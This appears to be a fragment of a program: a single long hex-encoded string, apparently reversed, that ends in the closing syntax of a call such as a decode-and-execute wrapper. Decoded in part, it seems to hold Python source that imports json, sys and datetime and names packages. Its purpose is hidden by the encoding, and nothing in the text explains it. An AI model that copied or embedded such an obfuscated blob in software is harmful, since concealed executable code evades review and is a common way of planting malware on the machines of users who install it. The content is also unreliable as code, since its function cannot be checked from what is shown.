3567616b63616070247f6e602669602020202a09222d79213d347e65646e69602c2567616b6361607823707d65746e2e6f637a6b7e6c5a3d5230323d2440535b522668247e6962707023202020202a0925637c61664d35686361636f556375702c25646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f596071682567616b6361607f547567602d302567616b636160702020202a0a39213d202d30227564627f6f5e6f6964707f602c25637962707275647e656f5379602c25646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f59607168237c69616475646f5567616b6361607f577f6863702665646a0a0a0d656479447e656d6971605024727f607d6960247369646f556079747e207071602d6f62766a01647f65717f54716d627f666024727f607d69602c6964757e207071602d6f62766a05636e6164737e694b62716d6b6f6f62497c696d61664024727f607d69602b62716d6b6f6f626f597c696d61666e256369667275637e207071602d6f62766a05636e616c61626f547e656d656c647475637024727f607d696025636e616c61626e247e65696c636e207071602d6f62766a02367f547e656d69716079647c657d6f577f68637024727f607d696024756c6c6167756e247e65696c636e207071602d6f62766a02367f547e656d6971607f537962717f577f68637024727f607d6960237962717e247e65696c636e207071602d6f62766a056c697473502c2275646165686f547e696270702c2c6d64786f59716c60737964602c2563757160702c2e65656273637f5271656c636024727f607d69602c6964757e23757e656d6e207071602d6f62766a047e656d69716079647c657d6f577f68637024727f607d696024756c6c6167756e247e65696c636e207071602d6f62766a09747e657f626f547e656d656c64747563702c247e656d6971607f537962717f577f68637024727f607d696025637168636275707e247e65696c636e207071602d6f62766a05636e6164737e694b62716d6b6f6f624024727f607d69602b62716d6b6f6f626e256369667275637e207071602d6f62766a036e6973716f5c6563776e656024727f607d6960247e65696c636e207071602d6f62766a047375657175627f5960716f546e6563702c2567616b6361607f5563716863627570702c237c69616475646f5567616b6361607f547567602c237e6f6464616f547567602c2567616b6361607f547567602c22367f597c696d61666f547567602c297c696d61666f5475676024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f62766a056d6964756471646024727f607d6960256d696475647164602d6f62766a0379737024727f607d696a0e6f637a6024727f607d696" ));